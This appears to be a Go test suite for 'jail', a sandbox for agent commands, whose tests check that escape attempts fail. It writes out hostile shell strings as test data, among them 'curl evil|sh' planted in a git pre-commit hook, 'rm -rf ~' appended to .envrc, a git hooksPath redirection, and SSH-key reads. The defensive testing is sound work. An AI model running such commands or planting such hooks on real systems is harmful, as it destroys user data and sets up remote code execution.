package main

import (
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/jail-sandbox/jail/internal/testutil"
)

// Each test here attempts, from inside the default agent profile, something the threat model says
// the command must not be able to do, and asserts that the kernel refused it — and that nothing
// changed on the host.

// project makes a working directory that looks like an agent's: a git repository with hooks and
// config, plus a directory outside it that must stay untouched.
func project(t *testing.T) (proj, outside string) {
	t.Helper()
	proj, outside = t.TempDir(), t.TempDir()
	git(t, proj, "init", "-q")
	testutil.WriteFile(t, filepath.Join(proj, "main.py"), "print('hi')\n")
	testutil.WriteFile(t, filepath.Join(outside, "victim"), "original\n")
	return proj, outside
}

func git(t *testing.T, dir string, args ...string) {
	t.Helper()
	cmd := exec.Command("git", args...)
	cmd.Dir = dir
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("git %s: %s: %s", args, err, out)
	}
}

func readFile(t *testing.T, path string) string {
	t.Helper()
	b, err := os.ReadFile(path)
	if err != nil && !os.IsNotExist(err) {
		t.Fatal(err)
	}
	return string(b)
}

// refused runs script under sh inside jail in dir and fails the test unless the script's last
// command failed (the script must end in a write or read attempt).
func refused(t *testing.T, dir, script string, extra ...string) string {
	t.Helper()
	args := append(extra, "--", "sh", "-c", script)
	out, errOut, code := runJailIn(t, dir, "", args...)
	if code == 0 {
		t.Fatalf("%q succeeded inside the sandbox; stdout %q stderr %q", script, out, errOut)
	}
	if code == exitFailure {
		t.Fatalf("%q: jail itself failed (125): %s", script, errOut)
	}
	return errOut
}

func TestWriteOutsideGrantRefused(t *testing.T) {
	proj, outside := project(t)
	victim := filepath.Join(outside, "victim")
	// Not granted at all: the path does not exist inside.
	refused(t, proj, "echo pwned > "+victim)
	// Granted read-only: visible, but the write fails.
	errOut := refused(t, proj, "cat "+victim+" >/dev/null && echo pwned > "+victim, "--ro", outside)
	if !strings.Contains(errOut, "Read-only file system") {
		t.Errorf("write under a read-only grant: want EROFS, got %q", errOut)
	}
	// System directories are read-only.
	refused(t, proj, "echo pwned > /etc/jail-test-pwned")
	refused(t, proj, "echo pwned > /usr/jail-test-pwned")
	if got := readFile(t, victim); got != "original\n" {
		t.Fatalf("victim changed on the host: %q", got)
	}
	for _, p := range []string{"/etc/jail-test-pwned", "/usr/jail-test-pwned"} {
		if _, err := os.Stat(p); err == nil {
			t.Fatalf("%s was created on the host", p)
		}
	}
}

// TestTruncateUnderReadOnlyGrantRefused: Landlock grants truncate on read-only binds (so that
// its check of an open ends at the grant), which leaves refusing a truncate there to the mount:
// with Landlock on and with the mounts alone, it must fail with EROFS. The fallback, Landlock
// alone, refuses it itself (TestFallbackFilesystem).
func TestTruncateUnderReadOnlyGrantRefused(t *testing.T) {
	proj, outside := project(t)
	victim := filepath.Join(outside, "victim")
	control := filepath.Join(t.TempDir(), "control")
	testutil.WriteFile(t, control, "original\n")
	if out, err := exec.Command("truncate", "-s", "0", control).CombinedOutput(); err != nil || readFile(t, control) != "" {
		t.Fatalf("the control truncate outside jail failed: %v %s", err, out)
	}
	noLandlock := filepath.Join(t.TempDir(), "nolandlock.toml")
	testutil.WriteFile(t, noLandlock, "extends = [\"agent\"]\n[landlock]\nmode = \"off\"\n")
	for _, layers := range [][]string{{"--ro", outside}, {"--ro", outside, "-p", noLandlock}} {
		for _, attack := range []string{"truncate -s 0 " + victim, "python3 -c 'import os; os.close(os.open(\"" + victim + "\", os.O_RDONLY | os.O_TRUNC))'"} {
			if errOut := refused(t, proj, attack, layers...); !strings.Contains(errOut, "Read-only file system") {
				t.Errorf("%q with %q: want EROFS, got %q", attack, layers, errOut)
			}
		}
	}
	if got := readFile(t, victim); got != "original\n" {
		t.Fatalf("victim truncated on the host: %q", got)
	}
}

func TestWriteInWorkingDirectoryWorks(t *testing.T) {
	proj, _ := project(t)
	if _, errOut, code := runJailIn(t, proj, "", "--", "sh", "-c", "echo new > out.txt"); code != 0 {
		t.Fatalf("write in the working directory: exit %d: %s", code, errOut)
	}
	if got := readFile(t, filepath.Join(proj, "out.txt")); got != "new\n" {
		t.Fatalf("out.txt on the host = %q", got)
	}
}

func TestProtectedPathsRefused(t *testing.T) {
	proj, _ := project(t)
	hook := filepath.Join(proj, ".git/hooks/pre-commit")
	config := filepath.Join(proj, ".git/config")
	configBefore := readFile(t, config)
	testutil.WriteFile(t, filepath.Join(proj, ".envrc"), "export SAFE=1\n")
	for _, attack := range []string{
		"echo 'curl evil|sh' > .git/hooks/pre-commit",        // does not exist yet
		"echo '[core] hooksPath = /tmp' >> .git/config",      // exists
		"echo 'rm -rf ~' >> .envrc",                          // exists
		"mkdir -p .vscode && echo '{}' > .vscode/tasks.json", // does not exist yet
		"mkdir -p .idea/runConfigurations",
		"echo '[submodule \"x\"]' > .gitmodules",
		"mv .git/hooks .git/hooks.old",
		"mv .git .git.old && mkdir -p .git/hooks && echo evil > .git/hooks/pre-commit",
	} {
		refused(t, proj, attack)
	}
	if _, err := os.Stat(hook); err == nil {
		t.Errorf("%s was created", hook)
	}
	if got := readFile(t, config); got != configBefore {
		t.Errorf(".git/config changed: %q", got)
	}
	if got := readFile(t, filepath.Join(proj, ".envrc")); got != "export SAFE=1\n" {
		t.Errorf(".envrc changed: %q", got)
	}
	for _, p := range []string{".vscode/tasks.json", ".idea/runConfigurations", ".git.old"} {
		if _, err := os.Stat(filepath.Join(proj, p)); err == nil {
			t.Errorf("%s was created", p)
		}
	}
}

func TestEnvrcNotYetExistingRefused(t *testing.T) {
	proj, _ := project(t)
	refused(t, proj, "echo 'rm -rf ~' > .envrc")
	refused(t, proj, "rmdir .envrc && echo 'rm -rf ~' > .envrc")
	// Nothing stays on the host: jail's placeholder went with the sandbox.
	if _, err := os.Lstat(filepath.Join(proj, ".envrc")); !os.IsNotExist(err) {
		t.Fatalf(".envrc on the host: %v; want nothing there", err)
	}
}

func TestSecretsUnderHomeHidden(t *testing.T) {
	home := t.TempDir()
	key := filepath.Join(home, ".ssh", "id_ed25519")
	testutil.WriteFile(t, key, "PRIVATE KEY\n")
	testutil.WriteFile(t, filepath.Join(home, "notes.txt"), "not secret\n")
	o := runOpts{dir: t.TempDir(), env: []string{"HOME=" + home}}
	// Home is an empty tmpfs by default; granting it read-only still hides ~/.ssh.
	for _, extra := range [][]string{nil, {"--ro", home}} {
		args := append(extra, "--", "sh", "-c", "cat ~/notes.txt; cat "+key)
		out, errOut, code := runJailWith(t, o, args...)
		if code == 0 || strings.Contains(out, "PRIVATE") || code == exitFailure {
			t.Fatalf("%q: read the key or failed to start: exit %d, %q %q", extra, code, out, errOut)
		}
		if extra != nil && !strings.Contains(out, "not secret") {
			t.Fatalf("--ro %s did not grant the rest of home: %q %q", home, out, errOut)
		}
	}
}

func TestHostProcessesInvisibleAndUnsignalable(t *testing.T) {
	sleeper := exec.Command("sleep", "300")
	if err := sleeper.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { sleeper.Process.Kill(); sleeper.Wait() })
	pid := fmt.Sprint(sleeper.Process.Pid)
	refused(t, t.TempDir(), "test -e /proc/"+pid)
	refused(t, t.TempDir(), "kill -0 "+pid)
	refused(t, t.TempDir(), "kill -TERM "+pid)
	// Only jail's init (pid 1, and its setup until it has exited), a persistent sandbox's
	// spawner (TestAttacksThroughExec) and the command may show; sh's builtins only, so that the
	// command is one process.
	out, errOut, code := runJail(t, "--", "sh", "-c", `for d in /proc/[0-9]*; do read -r c 2>/dev/null <$d/comm && echo "$c"; done`)
	if code != 0 || !strings.Contains(out, "jail-init\n") {
		t.Fatalf("listing processes inside: %q (exit %d, %s)", out, code, errOut)
	}
	for comm := range strings.Lines(out) {
		spawner := comm == "jail-spawner\n" && strings.HasPrefix(t.Name(), "TestAttacksThroughExec/")
		if comm != "jail-init\n" && comm != "sh\n" && !spawner {
			t.Errorf("a process neither jail's nor the command's visible inside: %q in %q", comm, out)
		}
	}
	if sleeper.ProcessState != nil {
		t.Fatal("the host process died")
	}
}

func TestHostLoopbackUnreachable(t *testing.T) {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Write([]byte("host secret\n"))
			c.Close()
		}
	}()
	port := fmt.Sprint(l.Addr().(*net.TCPAddr).Port)
	script := "import socket; s=socket.create_connection(('127.0.0.1', " + port + "), timeout=3); print(s.recv(64))"
	out, errOut, code := runJail(t, "--", "python3", "-c", script)
	if code == 0 || strings.Contains(out, "host secret") {
		t.Fatalf("connected to the host's loopback: %q %q", out, errOut)
	}
}

func TestSymlinkOutOfWorkingDirectoryRefused(t *testing.T) {
	proj, outside := project(t)
	victim := filepath.Join(outside, "victim")
	if err := os.Symlink(victim, filepath.Join(proj, "link")); err != nil {
		t.Fatal(err)
	}
	refused(t, proj, "echo pwned > link")
	if got := readFile(t, victim); got != "original\n" {
		t.Fatalf("write through the symlink reached the host: %q", got)
	}
}

func TestMountRefused(t *testing.T) {
	refused(t, t.TempDir(), "mkdir -p /tmp/m && mount -t tmpfs none /tmp/m")
	refused(t, t.TempDir(), "mount --bind /tmp /tmp")
	refused(t, t.TempDir(), "mount -o remount,rw /usr")
}

func TestNoCapabilitiesAndNoNewPrivs(t *testing.T) {
	out, errOut, code := runJail(t, "--", "grep", "-E", "^(Cap(Inh|Prm|Eff|Bnd|Amb)|NoNewPrivs)", "/proc/self/status")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	fields := 0
	for _, line := range strings.Split(strings.TrimSpace(out), "\n") {
		name, value, _ := strings.Cut(line, ":")
		value = strings.TrimSpace(value)
		fields++
		switch {
		case name == "NoNewPrivs" && value != "1":
			t.Errorf("NoNewPrivs = %s", value)
		case strings.HasPrefix(name, "Cap") && value != "0000000000000000":
			t.Errorf("%s = %s: a capability is kept", name, value)
		}
	}
	if fields != 6 {
		t.Fatalf("expected 6 status fields, got %q", out)
	}
}

// TestSeccompFilterOnUnlessTurnedOff: every sandbox runs under a filter; only a profile that
// says syscalls.default = "off" runs without one, and `profile show` marks that as widening.
func TestSeccompFilterOnUnlessTurnedOff(t *testing.T) {
	dir := t.TempDir()
	off := filepath.Join(dir, "off.toml")
	testutil.WriteFile(t, off, "extends = [\"agent\"]\n[syscalls]\ndefault = \"off\"\n")
	for _, tc := range []struct {
		args []string
		want string
	}{
		{nil, "Seccomp:\t2"},
		{[]string{"-p", off}, "Seccomp:\t0"},
	} {
		args := append(tc.args, "--", "grep", "^Seccomp:", "/proc/self/status")
		out, errOut, code := runJailIn(t, dir, "", args...)
		if code != 0 || strings.TrimSpace(out) != tc.want {
			t.Errorf("%q: %q (exit %d, %s), want %q", tc.args, out, code, errOut, tc.want)
		}
	}
	out, _, _ := runJailIn(t, dir, "", "profile", "show", off)
	if !strings.Contains(out, `# WIDENS: syscalls.default = "off"`) {
		t.Errorf("profile show does not flag the missing filter:\n%s", out)
	}
}

// TestHostAbstractSocketUnreachable: an abstract unix socket (X11's, D-Bus's) lives in the
// host's network namespace. With Landlock off, so that only the sandbox's own network namespace
// stands between them, connecting to it finds nothing.
func TestHostAbstractSocketUnreachable(t *testing.T) {
	name := fmt.Sprintf("jail-test-netns-%d", os.Getpid())
	l, err := net.Listen("unix", "@"+name)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	dir := t.TempDir()
	profile := filepath.Join(dir, "nolandlock.toml")
	testutil.WriteFile(t, profile, "extends = [\"agent\"]\n[landlock]\nmode = \"off\"\n")
	script := `import socket, sys
s = socket.socket(socket.AF_UNIX)
try:
    s.connect("\0" + sys.argv[1])
    print("connected")
except OSError as e:
    print(e.strerror)`
	for _, mode := range []string{"none", "host"} {
		out, errOut, code := runJailIn(t, dir, "", "-p", profile, "--net", mode, "--", "python3", "-c", script, name)
		got := strings.TrimSpace(out)
		switch {
		case code != 0:
			t.Fatalf("--net %s: exit %d, %s", mode, code, errOut)
		case mode == "none" && got != "Connection refused":
			t.Errorf("--net none: connect to the host's abstract socket: %q, want Connection refused", got)
		case mode == "host" && got != "connected":
			t.Errorf("--net host (the control): %q, want connected", got)
		}
	}
}
